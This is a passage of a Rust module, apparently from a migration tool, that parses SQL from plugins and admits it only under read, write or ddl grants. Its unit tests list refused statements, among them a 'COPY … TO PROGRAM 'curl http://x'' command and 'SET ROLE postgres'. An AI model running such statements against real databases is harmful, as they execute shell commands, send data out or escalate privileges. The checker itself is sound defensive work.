//! What a migration plugin's `sql` grant admits, decided by parsing: the
//! first, friendly refusal. The boundary is the database engine itself
//! (`authorizer.rs` on SQLite, `role.rs` on PostgreSQL); this check names
//! the statement and the grant that would admit it before anything runs.
//!
//! Each statement is parsed in the target database's dialect (sqlparser)
//! and admitted only when the grant covers every statement inside it:
//! `read` (SELECT / WITH), `write` (+ INSERT, UPDATE, DELETE, MERGE and
//! sequence moves), `ddl` (+ CREATE / ALTER / DROP / COMMENT of tables,
//! indexes, views and sequences). Functions are admitted from an allowlist
//! (`functions.rs`), wherever they appear — expressions, `FROM f(…)`,
//! LATERAL. Relations named `gantry_*` or the sqlx history table are never
//! reachable; catalogs (`pg_catalog`, `information_schema`, `pg_toast`,
//! `sqlite_*`) only in a statement that reads. Everything else is refused,
//! and so is anything gantry cannot parse.
//!
//! What runs is the statement *as gantry read it*: the parsed statement
//! printed back (`Admitted::text`), so a comment or quoting that sqlparser
//! and the server would read differently cannot smuggle a second meaning
//! past the check.

use super::functions::{self, FunctionRefusal};
use crate::db::Dialect;
use sqlparser::ast::{
    AccessExpr, AlterTableOperation, BinaryOperator, CommentObject, Expr, Ident, ObjectName, ObjectNamePart,
    ObjectType, Query, SetExpr, Statement, TableFactor, Value, Visit, Visitor,
    visit_expressions_mut,
};
use sqlparser::dialect::{PostgreSqlDialect, SQLiteDialect};
use sqlparser::parser::Parser;
use std::fmt;
use std::ops::ControlFlow;

/// A manifest's `sql` grant, narrowest first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum SqlGrant {
    Read,
    Write,
    Ddl,
}

impl SqlGrant {
    pub const NAMES: &'static str = "\"read\", \"write\" or \"ddl\"";

    pub fn parse(text: &str) -> Option<SqlGrant> {
        match text {
            "read" => Some(SqlGrant::Read),
            "write" => Some(SqlGrant::Write),
            "ddl" => Some(SqlGrant::Ddl),
            _ => None,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            SqlGrant::Read => "read",
            SqlGrant::Write => "write",
            SqlGrant::Ddl => "ddl",
        }
    }
}

impl fmt::Display for SqlGrant {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// Relations no plugin reaches, whatever its grant: gantry's own records
/// (`gantry_*`) and the sqlx history table (its configured name). On
/// PostgreSQL also the functions a FROM item's name calls: `t.f` is the
/// call `f(t)` when `t` has no column `f` — `t`'s whole row for a table, a
/// subquery or a CTE, the value itself for a function returning one value
/// (`FROM unnest(…) AS q`: `q.f` is `f(q)` for any `f` taking that value).
#[derive(Debug, Clone)]
pub struct Reserved {
    sqlx_table: String,
    functions: std::sync::Arc<AttributeFunctions>,
}

/// The database's functions callable with one argument, as read from its
/// catalog when a call is confined (`role::attribute_functions`).
#[derive(Debug, Clone, Default)]
pub struct AttributeFunctions {
    /// Those whose argument may be a whole row: a row type (or a domain
    /// over one), `record`, or a pseudo-type such as `anyelement`.
    pub of_rows: std::collections::BTreeSet<String>,
    /// All of them.
    pub unary: std::collections::BTreeSet<String>,
}

impl Default for Reserved {
    fn default() -> Self {
        Reserved::new("_sqlx_migrations")
    }
}

impl Reserved {
    pub fn new(sqlx_table: &str) -> Reserved {
        Reserved {
            sqlx_table: sqlx_table.to_ascii_lowercase(),
            functions: Default::default(),
        }
    }

    /// The functions PostgreSQL may call for `item.name` (the database's
    /// own included).
    pub fn with_functions(mut self, functions: AttributeFunctions) -> Reserved {
        self.functions = std::sync::Arc::new(functions);
        self
    }

    /// Whether a relation's plain name (any case) is reserved.
    pub fn covers(&self, name: &str) -> bool {
        let name = name.to_ascii_lowercase();
        name.starts_with("gantry_") || name == self.sqlx_table || name == "_sqlx_migrations"
    }

    /// The sqlx history table's name, as configured.
    pub fn sqlx_table(&self) -> &str {
        &self.sqlx_table
    }
}

/// SQLite pragmas that only read, admitted under `read` (with a table or
/// index name as their argument where they take one).
pub const READ_PRAGMAS: &[&str] = &[
    "table_info",
    "table_xinfo",
    "table_list",
    "index_list",
    "index_info",
    "index_xinfo",
    "foreign_key_list",
    "foreign_key_check",
    "integrity_check",
    "quick_check",
    "user_version",
    "schema_version",
    "application_id",
];

/// Pragmas whose argument would set a value rather than name a table.
const VALUE_PRAGMAS: &[&str] = &["user_version", "schema_version", "application_id"];

/// Whether `pragma` with `argument` only reads.
pub fn pragma_reads(pragma: &str, argument: Option<&str>) -> bool {
    let pragma = pragma.to_ascii_lowercase();
    READ_PRAGMAS.contains(&pragma.as_str())
        && (argument.is_none() || !VALUE_PRAGMAS.contains(&pragma.as_str()))
}

/// Why a statement was not admitted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Refusal {
    /// A wider grant would admit it.
    Needs { needs: SqlGrant, granted: SqlGrant },
    /// No grant admits it.
    Never(String),
    /// More or fewer than one statement.
    NotOne(usize),
    /// The dialect's parser could not read it.
    Unreadable(String),
}

/// A statement the grant admits, printed back as gantry read it, with
/// placeholders in the dialect's own style (`?1` on SQLite).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Admitted {
    pub text: String,
}

/// Admits `statement` under `grant`, or says why not, naming the
/// statement's first words.
pub fn admit(
    dialect: Dialect,
    grant: SqlGrant,
    statement: &str,
    reserved: &Reserved,
) -> Result<Admitted, String> {
    check(dialect, grant, statement, reserved).map_err(|refusal| explain(dialect, statement, refusal))
}

/// A refusal as a message naming the statement's first words.
pub fn explain(dialect: Dialect, statement: &str, refusal: Refusal) -> String {
    let words = first_words(statement);
    match refusal {
        Refusal::Needs { needs, granted } => format!(
            "`{words}` needs sql = \"{needs}\"; this plugin's grant is sql = \"{granted}\""
        ),
        Refusal::Never(what) => {
            format!("`{words}` is refused: {what}; no sql grant admits it")
        }
        Refusal::NotOne(0) => "no statement to run".to_string(),
        Refusal::NotOne(n) => {
            format!("`{words}` holds {n} statements; send one statement per call")
        }
        Refusal::Unreadable(why) => format!(
            "`{words}` is refused: gantry could not parse it as {dialect} SQL ({why}); only statements it can read are admitted"
        ),
    }
}

/// The decision without the message.
pub fn check(
    dialect: Dialect,
    grant: SqlGrant,
    statement: &str,
    reserved: &Reserved,
) -> Result<Admitted, Refusal> {
    let [statement] = <[Statement; 1]>::try_from(parse(dialect, statement)?)
        .map_err(|all| Refusal::NotOne(all.len()))?;
    let mut statement = statement;
    let level = statement_level(&statement, reserved).map_err(Refusal::Never)?;
    let items = FromItems::of(&statement);
    let mut needs = Needs {
        dialect,
        grant,
        level,
        reserved,
        writes: level > SqlGrant::Read,
        items,
    };
    if let ControlFlow::Break(refusal) = statement.visit(&mut needs) {
        return Err(refusal);
    }
    if needs.level > grant {
        return Err(Refusal::Needs {
            needs: needs.level,
            granted: grant,
        });
    }
    if dialect == Dialect::Sqlite {
        // `$1` → `?1`: SQLite's own numbered parameters, bound by position.
        let _ = visit_expressions_mut(&mut statement, |expr| {
            if let Expr::Value(value) = expr
                && let Value::Placeholder(name) = &mut value.value
                && let Some(number) = name.strip_prefix('$')
                && number.bytes().all(|b| b.is_ascii_digit())
            {
                *name = format!("?{number}");
            }
            ControlFlow::<()>::Continue(())
        });
    }
    let text = statement.to_string();
    // The printed statement must read back as the same statement, or what
    // runs would not be what was checked (sqlparser prints some literals,
    // such as a backslash before a quote, in a way that reads differently).
    match <[Statement; 1]>::try_from(parse(dialect, &text)?) {
        Ok([again]) if again == statement => Ok(Admitted { text }),
        _ => Err(Refusal::Unreadable(
            "it does not print back as the same statement".into(),
        )),
    }
}

fn parse(dialect: Dialect, text: &str) -> Result<Vec<Statement>, Refusal> {
    match dialect {
        Dialect::Postgres => Parser::parse_sql(&PostgreSqlDialect {}, text),
        Dialect::Sqlite => Parser::parse_sql(&SQLiteDialect {}, text),
    }
    .map_err(|e| Refusal::Unreadable(e.to_string()))
}

/// Walks every statement, query, expression and relation inside one
/// statement, raising the level it needs or breaking with a refusal.
struct Needs<'a> {
    dialect: Dialect,
    grant: SqlGrant,
    level: SqlGrant,
    reserved: &'a Reserved,
    /// The statement changes something: catalogs are out of its reach.
    writes: bool,
    /// The names FROM items go by, anywhere in the statement.
    items: FromItems,
}

/// The longest name PostgreSQL keeps (NAMEDATALEN - 1); longer ones it cuts.
const PG_NAME_BYTES: usize = 63;

/// SQL's value keywords, which PostgreSQL reads in FROM as calls of
/// functions returning one value (`FROM current_user AS u`: `u` is a name).
const VALUE_KEYWORDS: &[&str] = &[
    "current_date",
    "current_time",
    "current_timestamp",
    "localtime",
    "localtimestamp",
    "current_role",
    "current_user",
    "session_user",
    "user",
    "current_catalog",
    "current_schema",
    "system_user",
];

/// The names FROM items go by: those whose whole row is a row (tables,
/// views, CTEs, subqueries, joins, an INSERT's target, `excluded`), and
/// those that are function calls (their alias, else the function's name).
/// A name known as neither — PostgreSQL may name an item otherwise than
/// it was written (`FROM trim(…)` is `btrim`) — counts as a function's.
struct FromItems {
    rows: std::collections::BTreeSet<String>,
    functions: std::collections::BTreeSet<String>,
}

impl FromItems {
    /// The items of `statement`, and ON CONFLICT's `excluded` (the
    /// proposed row).
    fn of(statement: &Statement) -> FromItems {
        let mut items = FromItems {
            rows: ["excluded".to_string()].into(),
            functions: Default::default(),
        };
        let _ = statement.visit(&mut items);
        items
    }

    fn is_rows(&self, name: &str) -> bool {
        self.rows.contains(name) && !self.functions.contains(name)
    }
}

impl Visitor for FromItems {
    type Break = ();

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        let named = |alias: &Option<sqlparser::ast::TableAlias>, name: Option<String>| {
            alias.as_ref().map(|a| folded(&a.name)).or(name)
        };
        match factor {
            TableFactor::Table {
                name,
                args: None,
                alias,
                ..
            } => {
                let keyword = match name.0.as_slice() {
                    [ObjectNamePart::Identifier(id)] if id.quote_style.is_none() => {
                        let word = id.value.to_ascii_lowercase();
                        VALUE_KEYWORDS.contains(&word.as_str()).then_some(word)
                    }
                    _ => None,
                };
                match keyword {
                    Some(word) => self.functions.extend(named(alias, Some(word))),
                    None => self.rows.extend(named(alias, last_part(name))),
                }
            }
            TableFactor::Table {
                name,
                args: Some(_),
                alias,
                ..
            }
            | TableFactor::Function { name, alias, .. } => {
                self.functions.extend(named(alias, last_part(name)))
            }
            TableFactor::UNNEST { alias, .. } => {
                self.functions.extend(named(alias, Some("unnest".into())))
            }
            TableFactor::TableFunction { alias, .. } => self.functions.extend(named(alias, None)),
            TableFactor::Derived { alias, .. } | TableFactor::NestedJoin { alias, .. } => {
                self.rows.extend(named(alias, None))
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        // An INSERT's target, a CTE's or table's own name.
        self.rows.extend(last_part(relation));
        ControlFlow::Continue(())
    }
}

impl Needs<'_> {
    fn raise(&mut self, level: SqlGrant) -> ControlFlow<Refusal> {
        self.level = self.level.max(level);
        if level > SqlGrant::Read {
            self.writes = true;
        }
        ControlFlow::Continue(())
    }

    /// `item.name`: a column of the FROM item `item`, or the call
    /// `name(item)` when it has none — for an item whose whole row is a row
    /// a function of a whole row; for any other (a function's value, or a
    /// name the statement does not show) any function of one argument.
    fn item_attribute(&mut self, item: &Ident, name: &Ident) -> ControlFlow<Refusal> {
        let (item, name) = (folded(item), folded(name));
        let functions = &self.reserved.functions;
        let reachable = if self.items.is_rows(&item) {
            functions.of_rows.contains(&name)
        } else {
            functions.unary.contains(&name)
        };
        if reachable {
            return self.attribute(&name, &item);
        }
        ControlFlow::Continue(())
    }

    /// `name` selected from `of` in PostgreSQL's attribute notation, which
    /// may call the function `name`: admitted as that call would be.
    fn attribute(&mut self, name: &str, of: &str) -> ControlFlow<Refusal> {
        match functions::admit(self.dialect, self.grant, name) {
            Ok(()) => ControlFlow::Continue(()),
            Err(FunctionRefusal::Needs(level)) => self.raise(level),
            Err(FunctionRefusal::Never(_)) => ControlFlow::Break(Refusal::Never(format!(
                "PostgreSQL reads `{of}.{name}` as a call of the function {name} (when there is no field or column {name}), and {name} is not a function a migration step may call"
            ))),
        }
    }

    fn function(&mut self, name: &ObjectName) -> ControlFlow<Refusal> {
        let plain = match plain_function(self.dialect, name) {
            Ok(plain) => plain,
            Err(why) => return ControlFlow::Break(Refusal::Never(why)),
        };
        match functions::admit(self.dialect, self.grant, &plain) {
            Ok(()) => ControlFlow::Continue(()),
            Err(FunctionRefusal::Needs(level)) => self.raise(level),
            Err(FunctionRefusal::Never(why)) => ControlFlow::Break(Refusal::Never(why)),
        }
    }
}

/// Functions whose first argument names a sequence as text.
const SEQUENCE_FUNCTIONS: &[&str] = &["nextval", "setval", "currval"];

impl Needs<'_> {
    /// A sequence function's name argument: a literal, and none of gantry's.
    fn sequence_argument(&self, function: &sqlparser::ast::Function) -> ControlFlow<Refusal> {
        let first = match &function.args {
            sqlparser::ast::FunctionArguments::List(list) => list.args.first(),
            _ => None,
        };
        let literal = match first {
            Some(sqlparser::ast::FunctionArg::Unnamed(sqlparser::ast::FunctionArgExpr::Expr(
                Expr::Value(value),
            ))) => match &value.value {
                Value::SingleQuotedString(name) => Some(name.clone()),
                _ => None,
            },
            _ => None,
        };
        match literal {
            Some(name)
                if !name
                    .split('.')
                    .any(|part| self.reserved.covers(part.trim_matches('"'))) =>
            {
                ControlFlow::Continue(())
            }
            Some(name) => ControlFlow::Break(Refusal::Never(format!(
                "the sequence {name} is gantry's own"
            ))),
            None => ControlFlow::Break(Refusal::Never(format!(
                "{} takes the sequence's name as a quoted literal here",
                function.name
            ))),
        }
    }
}

impl Visitor for Needs<'_> {
    type Break = Refusal;

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<Refusal> {
        match statement_level(statement, self.reserved) {
            Ok(level) => self.raise(level),
            Err(why) => ControlFlow::Break(Refusal::Never(why)),
        }
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<Refusal> {
        if selects_into(&query.body) {
            // SELECT … INTO creates a table.
            return self.raise(SqlGrant::Ddl);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<Refusal> {
        match expr {
            Expr::Function(function) => {
                self.function(&function.name)?;
                if SEQUENCE_FUNCTIONS.contains(&last_part(&function.name).unwrap_or_default().as_str())
                {
                    return self.sequence_argument(function);
                }
                ControlFlow::Continue(())
            }
            // A custom operator calls a function no allowlist sees, and
            // PostgreSQL ends an operator at `--` or `/*` where sqlparser
            // does not: the two would read different statements.
            Expr::BinaryOp { op, .. } | Expr::AnyOp { compare_op: op, .. } | Expr::AllOp { compare_op: op, .. }
                if matches!(op, BinaryOperator::Custom(_) | BinaryOperator::PGCustomBinaryOperator(_)) =>
            {
                ControlFlow::Break(Refusal::Never(format!(
                    "the operator {op} is not one gantry admits"
                )))
            }
            // PostgreSQL reads `(value).name` as the call `name(value)` when
            // the value has no field `name`: any one-argument function. After
            // a plain name (`t.col[1]`) the first step is a column of `t`.
            Expr::CompoundFieldAccess { root, access_chain } if self.dialect == Dialect::Postgres => {
                for (at, access) in access_chain.iter().enumerate() {
                    if let AccessExpr::Dot(Expr::Identifier(field)) = access {
                        match (at, root.as_ref()) {
                            (0, Expr::Identifier(item)) => self.item_attribute(item, field)?,
                            (0, Expr::CompoundIdentifier(parts)) if !parts.is_empty() => {
                                self.item_attribute(&parts[parts.len() - 1], field)?
                            }
                            _ => self.attribute(&folded(field), "(…)")?,
                        }
                    }
                }
                ControlFlow::Continue(())
            }
            // A dollar quote's tag must start as PostgreSQL's does (a letter
            // or `_`): sqlparser reads `$1$x$1$` as one string, PostgreSQL
            // as a parameter and another quote (found in a fourth review).
            Expr::Value(value)
                if let Value::DollarQuotedString(quoted) = &value.value
                    && let Some(tag) = &quoted.tag
                    && !tag.starts_with(|c: char| c.is_alphabetic() || c == '_' || !c.is_ascii()) =>
            {
                ControlFlow::Break(Refusal::Never(format!(
                    "the dollar-quote tag `${tag}$` does not start with a letter or `_`"
                )))
            }
            // …and `t.name` as `name(t)` when `t` has no column `name`.
            Expr::CompoundIdentifier(parts) if self.dialect == Dialect::Postgres && parts.len() >= 2 => {
                self.item_attribute(&parts[parts.len() - 2], &parts[parts.len() - 1])
            }
            _ => ControlFlow::Continue(()),
        }
    }

    fn pre_visit_ident(&mut self, ident: &Ident) -> ControlFlow<Refusal> {
        // PostgreSQL cuts a name to 63 bytes; the check compares them
        // whole, so a longer one could be two names here and one there
        // (found in a third review: an alias of 64 characters hid a
        // function item behind a table's name).
        if self.dialect == Dialect::Postgres && ident.value.len() > PG_NAME_BYTES {
            return ControlFlow::Break(Refusal::Never(format!(
                "the name `{}…` is longer than PostgreSQL's {PG_NAME_BYTES} bytes",
                ident.value.chars().take(16).collect::<String>()
            )));
        }
        // Wherever a name appears — a table, `TABLE x`, INHERITS, LIKE,
        // REFERENCES, RENAME TO — gantry's own names are not a plugin's.
        if self.reserved.covers(&ident.value) {
            return ControlFlow::Break(Refusal::Never(format!(
                "{} names gantry's own records, which no plugin may touch",
                ident.value
            )));
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<Refusal> {
        // On PostgreSQL a function in FROM goes by its alias, else by a name
        // PostgreSQL chooses, which is not always the one written
        // (`FROM trim(…)` is `btrim`): attribute notation after it must
        // name what the check can see.
        if self.dialect == Dialect::Postgres {
            let unnamed = match factor {
                TableFactor::Table {
                    args: Some(_),
                    alias,
                    ..
                }
                | TableFactor::Function { alias, .. }
                | TableFactor::UNNEST { alias, .. }
                | TableFactor::TableFunction { alias, .. } => alias.is_none(),
                _ => false,
            };
            if unnamed {
                return ControlFlow::Break(Refusal::Never(format!(
                    "a function in FROM needs an alias (`{} AS x`)",
                    first_words(&factor.to_string())
                )));
            }
        }
        match factor {
            // `FROM f(…)` is a table with arguments.
            TableFactor::Table { name, args, .. } => {
                if args.is_some() {
                    return self.function(name);
                }
                ControlFlow::Continue(())
            }
            TableFactor::Function { name, .. } => self.function(name),
            // Their expressions and queries are visited on their own.
            TableFactor::Derived { .. }
            | TableFactor::TableFunction { .. }
            | TableFactor::UNNEST { .. }
            | TableFactor::NestedJoin { .. } => ControlFlow::Continue(()),
            other => ControlFlow::Break(Refusal::Never(format!(
                "the table expression `{}` is not one gantry admits",
                first_words(&other.to_string())
            ))),
        }
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<Refusal> {
        if let Some(why) = reserved_relation(relation, self.reserved) {
            return ControlFlow::Break(Refusal::Never(why));
        }
        if self.dialect == Dialect::Sqlite
            && last_part(relation).is_some_and(|name| {
                matches!(
                    name.as_str(),
                    "sqlite_master" | "sqlite_schema" | "sqlite_temp_master" | "sqlite_temp_schema"
                )
            })
        {
            return ControlFlow::Break(Refusal::Never(format!(
                "{relation} is SQLite's schema table, which no plugin reads"
            )));
        }
        if self.writes && catalog_relation(relation) {
            return ControlFlow::Break(Refusal::Never(format!(
                "{relation} is a system catalog, which only a statement that reads may use"
            )));
        }
        ControlFlow::Continue(())
    }
}

/// A function's plain name: unqualified, or qualified with the catalog
/// schema whose functions the allowlist names (`pg_catalog.lower`).
fn plain_function(dialect: Dialect, name: &ObjectName) -> Result<String, String> {
    let parts: Vec<String> = name
        .0
        .iter()
        .map(|part| match part {
            // PostgreSQL resolves a quoted name as written: `"MD5"` is not md5.
            ObjectNamePart::Identifier(ident)
                if ident.quote_style.is_some() && dialect == Dialect::Postgres =>
            {
                Err(format!("the function name {name} is quoted; call functions by their plain name"))
            }
            ObjectNamePart::Identifier(ident) => Ok(ident.value.to_ascii_lowercase()),
            ObjectNamePart::Function(_) => Err(format!("the function name {name} is computed")),
        })
        .collect::<Result<_, _>>()?;
    match parts.as_slice() {
        [plain] => Ok(plain.clone()),
        [schema, plain] if dialect == Dialect::Postgres && schema == "pg_catalog" => {
            Ok(plain.clone())
        }
        _ => Err(format!(
            "the function {name} is qualified; call the functions gantry admits by their plain name"
        )),
    }
}

/// Why a relation is out of every plugin's reach, if it is.
fn reserved_relation(relation: &ObjectName, reserved: &Reserved) -> Option<String> {
    let last = last_part(relation)?;
    reserved
        .covers(&last)
        .then(|| format!("{relation} holds gantry's own records, which no plugin may touch"))
}

/// Whether a relation is a system catalog (by schema or by name).
fn catalog_relation(relation: &ObjectName) -> bool {
    let parts: Vec<String> = relation
        .0
        .iter()
        .filter_map(|part| part.as_ident())
        .map(|ident| ident.value.to_ascii_lowercase())
        .collect();
    let schema_is_catalog = parts.len() > 1
        && parts[..parts.len() - 1].iter().any(|schema| {
            matches!(schema.as_str(), "pg_catalog" | "information_schema" | "pg_toast")
                || schema.starts_with("pg_temp")
        });
    let name_is_catalog = parts
        .last()
        .is_some_and(|name| name.starts_with("pg_") || name.starts_with("sqlite_"));
    schema_is_catalog || name_is_catalog
}

/// An identifier as PostgreSQL reads it: folded to lower case unless quoted.
fn folded(ident: &Ident) -> String {
    match ident.quote_style {
        Some(_) => ident.value.clone(),
        None => ident.value.to_ascii_lowercase(),
    }
}

/// The last part of a name, lowercased (`public.dblink` is `dblink`).
fn last_part(name: &ObjectName) -> Option<String> {
    name.0
        .last()
        .and_then(|part| part.as_ident())
        .map(|ident| ident.value.to_ascii_lowercase())
}

fn selects_into(body: &SetExpr) -> bool {
    match body {
        SetExpr::Select(select) => select.into.is_some(),
        SetExpr::SetOperation { left, right, .. } => selects_into(left) || selects_into(right),
        _ => false,
    }
}

/// The grant one statement (not what is inside it) needs, or why none does.
fn statement_level(statement: &Statement, reserved: &Reserved) -> Result<SqlGrant, String> {
    use SqlGrant::*;
    let ddl_object = |object: &ObjectType| {
        matches!(
            object,
            ObjectType::Table | ObjectType::Index | ObjectType::View | ObjectType::Sequence
        )
    };
    let named = |names: &[&ObjectName]| -> Result<(), String> {
        for name in names {
            if let Some(why) = reserved_relation(name, reserved) {
                return Err(why);
            }
            if catalog_relation(name) {
                return Err(format!("{name} is a system catalog"));
            }
        }
        Ok(())
    };
    Ok(match statement {
        Statement::Query(_) => Read,
        Statement::Pragma { name, value, .. } => {
            let pragma = name.to_string().to_ascii_lowercase();
            let pragma = pragma.rsplit('.').next().unwrap_or_default();
            let argument = value.as_ref().map(|v| v.to_string());
            if !pragma_reads(pragma, argument.as_deref()) {
                return Err(format!("PRAGMA {pragma} is not one that only reads"));
            }
            Read
        }
        Statement::Insert(_) | Statement::Update(_) | Statement::Delete(_) | Statement::Merge(_) => {
            Write
        }
        // A temporary table outlives the step in the runner's session, and
        // its name comes first: it could stand in for one of gantry's.
        Statement::CreateTable(create) if create.temporary => {
            return Err("temporary tables outlive the step; create a real one".into());
        }
        Statement::CreateTable(_) => Ddl,
        Statement::CreateIndex(_) | Statement::CreateView(_) | Statement::CreateSequence { .. } => {
            Ddl
        }
        Statement::AlterIndex { name, .. } => {
            named(&[name])?;
            Ddl
        }
        Statement::AlterView(_) => Ddl,
        Statement::AlterTable(alter) => {
            if let Some(op) = alter.operations.iter().find(|op| !table_op(op)) {
                let op = first_words(&op.to_string());
                return Err(format!("ALTER TABLE … {op} is outside a migration's DDL"));
            }
            Ddl
        }
        Statement::Drop {
            object_type, names, ..
        } if ddl_object(object_type) => {
            named(&names.iter().collect::<Vec<_>>())?;
            Ddl
        }
        Statement::Comment {
            object_type:
                CommentObject::Table
                | CommentObject::Column
                | CommentObject::Index
                | CommentObject::View
                | CommentObject::Sequence
                | CommentObject::MaterializedView,
            object_name,
            ..
        } => {
            named(&[object_name])?;
            Ddl
        }
        Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. } => {
            return Err(
                "the migration's transaction belongs to gantry; it commits or rolls back when the step ends"
                    .into(),
            );
        }
        other => {
            return Err(format!("{} statements are outside every grant", kind_of(other)));
        }
    })
}

/// ALTER TABLE operations on the table's own shape; ownership, row
/// security, triggers and the like are not a migration step's to change.
fn table_op(op: &AlterTableOperation) -> bool {
    use AlterTableOperation as Op;
    matches!(
        op,
        Op::AddColumn { .. }
            | Op::DropColumn { .. }
            | Op::RenameColumn { .. }
            | Op::RenameTable { .. }
            | Op::AlterColumn { .. }
            | Op::AddConstraint { .. }
            | Op::DropConstraint { .. }
            | Op::RenameConstraint { .. }
            | Op::DropForeignKey { .. }
            | Op::DropPrimaryKey { .. }
    )
}

/// The statement's leading keywords, for a refusal (`COPY`, `SET ROLE`).
fn kind_of(statement: &Statement) -> String {
    let text = statement.to_string();
    let words: Vec<&str> = text
        .split_whitespace()
        .take_while(|w| w.chars().all(|c| c.is_ascii_uppercase() || c == '_'))
        .take(3)
        .collect();
    if words.is_empty() {
        "these".into()
    } else {
        words.join(" ")
    }
}

/// Up to the first five words of a statement, at most 60 characters.
pub fn first_words(statement: &str) -> String {
    let words: Vec<&str> = statement.split_whitespace().take(5).collect();
    let mut text = words.join(" ");
    if text.chars().count() > 60 {
        text = text.chars().take(60).collect::<String>() + "…";
    } else if statement.split_whitespace().nth(5).is_some() {
        text.push_str(" …");
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use SqlGrant::*;

    fn checked(dialect: Dialect, grant: SqlGrant, sql: &str) -> Result<Admitted, Refusal> {
        check(dialect, grant, sql, &Reserved::default())
    }

    fn ok(dialect: Dialect, grant: SqlGrant, sql: &str) {
        if let Err(why) = admit(dialect, grant, sql, &Reserved::default()) {
            panic!("{sql:?} under {grant} on {dialect}: {why}");
        }
    }

    /// `sql` is refused on PostgreSQL under `grant`, for a reason naming
    /// `because`.
    fn never_because(grant: SqlGrant, sql: &str, reserved: &Reserved, because: &str) {
        match check(Dialect::Postgres, grant, sql, reserved) {
            Err(Refusal::Never(why)) if why.contains(because) => {}
            other => panic!("{sql:?}: {other:?}"),
        }
    }

    fn never(dialect: Dialect, sql: &str) {
        match checked(dialect, Ddl, sql) {
            Err(Refusal::Never(_)) | Err(Refusal::Unreadable(_)) | Err(Refusal::NotOne(_)) => {}
            other => panic!("{sql:?} on {dialect}: {other:?}"),
        }
    }

    #[test]
    fn levels_admit_what_they_name() {
        for d in [Dialect::Postgres, Dialect::Sqlite] {
            ok(d, Read, "SELECT id, email FROM users WHERE id > $1");
            ok(d, Read, "WITH x AS (SELECT 1) SELECT * FROM x");
            ok(d, Write, "UPDATE users SET email = lower(email) WHERE id = $1");
            ok(d, Write, "INSERT INTO users (email) VALUES ($1)");
            ok(d, Write, "DELETE FROM sessions WHERE expires < $1");
            ok(d, Ddl, "CREATE TABLE t (id INTEGER PRIMARY KEY)");
            ok(d, Ddl, "CREATE INDEX t_id ON t (id)");
            ok(d, Ddl, "ALTER TABLE t ADD COLUMN note TEXT");
            ok(d, Ddl, "DROP TABLE t");
            ok(d, Ddl, "CREATE VIEW v AS SELECT 1");
        }
        ok(Dialect::Postgres, Ddl, "COMMENT ON TABLE t IS 'x'");
        ok(Dialect::Postgres, Ddl, "CREATE SEQUENCE s");
        ok(Dialect::Sqlite, Read, "PRAGMA table_info('users')");
        ok(Dialect::Postgres, Read, "SELECT pg_sleep(60)");
        ok(Dialect::Postgres, Read, "SELECT relname FROM pg_catalog.pg_class");
        ok(Dialect::Postgres, Read, "SELECT x FROM jsonb_array_elements($1::jsonb) AS t(x)");
        ok(Dialect::Postgres, Read, "SELECT pg_catalog.lower('A')");
    }

    #[test]
    fn what_runs_is_what_was_read() {
        let admitted = checked(Dialect::Sqlite, Write, "UPDATE t SET a = $1 /* note */ WHERE id = $2").unwrap();
        assert_eq!(admitted.text, "UPDATE t SET a = ?1 WHERE id = ?2");
        let admitted = checked(Dialect::Postgres, Read, "SELECT $1::bigint -- trailing").unwrap();
        assert_eq!(admitted.text, "SELECT $1::BIGINT");
    }

    /// sqlparser prints a backslash before a quote as if it escaped it, so
    /// the printed text would read as another statement: refused.
    #[test]
    fn what_does_not_print_back_as_itself_is_refused() {
        for d in [Dialect::Postgres, Dialect::Sqlite] {
            for sql in [
                "SELECT 'it\\''s' FROM sessions",
                "SELECT 'a\\'' , lower('x') --'",
            ] {
                match checked(d, Read, sql) {
                    Err(_) => {}
                    Ok(admitted) => {
                        let again = checked(d, Read, &admitted.text);
                        assert_eq!(again.map(|a| a.text), Ok(admitted.text), "{sql:?} on {d}");
                    }
                }
            }
        }
    }

    #[test]
    fn a_narrow_grant_names_the_grant_that_would_admit() {
        assert_eq!(
            checked(Dialect::Postgres, Read, "DELETE FROM users"),
            Err(Refusal::Needs { needs: Write, granted: Read })
        );
        assert_eq!(
            checked(Dialect::Sqlite, Write, "DROP TABLE users"),
            Err(Refusal::Needs { needs: Ddl, granted: Write })
        );
        // A data-modifying CTE is a write; SELECT INTO makes a table.
        assert_eq!(
            checked(
                Dialect::Postgres,
                Read,
                "WITH gone AS (DELETE FROM users RETURNING id) SELECT count(*) FROM gone"
            ),
            Err(Refusal::Needs { needs: Write, granted: Read })
        );
        assert_eq!(
            checked(Dialect::Postgres, Write, "SELECT * INTO copy FROM users"),
            Err(Refusal::Needs { needs: Ddl, granted: Write })
        );
        // Sequences move: a SELECT of nextval is a write.
        assert_eq!(
            checked(Dialect::Postgres, Read, "SELECT nextval('users_id_seq')"),
            Err(Refusal::Needs { needs: Write, granted: Read })
        );
        assert!(checked(Dialect::Postgres, Write, "SELECT setval('users_id_seq', 10)").is_ok());
        let why = admit(Dialect::Postgres, Read, "DELETE FROM users WHERE true", &Reserved::default())
            .unwrap_err();
        assert!(why.contains("`DELETE FROM users WHERE true`"), "{why}");
        assert!(why.contains("sql = \"write\""), "{why}");
    }

    #[test]
    fn what_no_grant_admits() {
        for sql in [
            "BEGIN",
            "COMMIT",
            "ROLLBACK",
            "SAVEPOINT a",
            "COPY users TO PROGRAM 'curl http://x'",
            "SET ROLE postgres",
            "SET SESSION AUTHORIZATION postgres",
            "SET statement_timeout = 0",
